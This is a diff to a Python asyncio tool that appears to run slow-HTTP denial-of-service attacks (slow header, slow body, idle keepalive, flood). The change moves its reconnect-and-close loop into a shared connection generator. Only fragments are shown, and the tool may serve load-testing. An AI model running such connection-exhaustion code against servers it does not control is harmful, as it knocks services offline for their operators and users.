@@ -115,8 +115,9 @@ def _request(spec: AttackSpec, method: str = "GET", extra: str = "", end: bool =
     return (head + ("\r\n" if end else "")).encode()
 
 
-async def _trickle(spec: AttackSpec, n: int, deadline: float, tally: _Tally) -> None:
-    """slow_header / slow_body: one connection, reconnecting when the server drops it."""
+async def _connections(spec: AttackSpec, n: int, deadline: float, tally: _Tally):
+    """Connection after connection until the deadline, each closed after its round;
+    a failed connect is counted and retried half a second later."""
     while time.monotonic() < deadline:
         try:
             reader, writer = await _open(spec, n)
@@ -124,6 +125,15 @@ async def _trickle(spec: AttackSpec, n: int, deadline: float, tally: _Tally) -> 
             tally.counts["connect failed"] += 1
             await asyncio.sleep(0.5)
             continue
+        try:
+            yield reader, writer
+        finally:
+            writer.close()
+
+
+async def _trickle(spec: AttackSpec, n: int, deadline: float, tally: _Tally) -> None:
+    """slow_header / slow_body: one connection, reconnecting when the server drops it."""
+    async for reader, writer in _connections(spec, n, deadline, tally):
         tally.counts["connected"] += 1
         try:
             if spec.kind == "slow_header":
@@ -147,19 +157,11 @@ async def _trickle(spec: AttackSpec, n: int, deadline: float, tally: _Tally) -> 
                 sent += 1
         except (OSError, asyncio.IncompleteReadError):
             tally.counts["reset by server"] += 1
-        finally:
-            writer.close()
 
 
 async def _idle(spec: AttackSpec, n: int, deadline: float, tally: _Tally) -> None:
     """idle_keepalive: ask once, then hold the connection open doing nothing."""
-    while time.monotonic() < deadline:
-        try:
-            reader, writer = await _open(spec, n)
-        except (OSError, asyncio.TimeoutError):
-            tally.counts["connect failed"] += 1
-            await asyncio.sleep(0.5)
-            continue
+    async for reader, writer in _connections(spec, n, deadline, tally):
         try:
             writer.write(_request(spec))
             await writer.drain()
@@ -174,8 +176,6 @@ async def _idle(spec: AttackSpec, n: int, deadline: float, tally: _Tally) -> Non
         except (OSError, asyncio.IncompleteReadError, asyncio.TimeoutError, ValueError):
             tally.counts["failed"] += 1
             await asyncio.sleep(0.5)
-        finally:
-            writer.close()
 
 
 async def _flood(spec: AttackSpec, n: int, deadline: float, tally: _Tally) -> None:
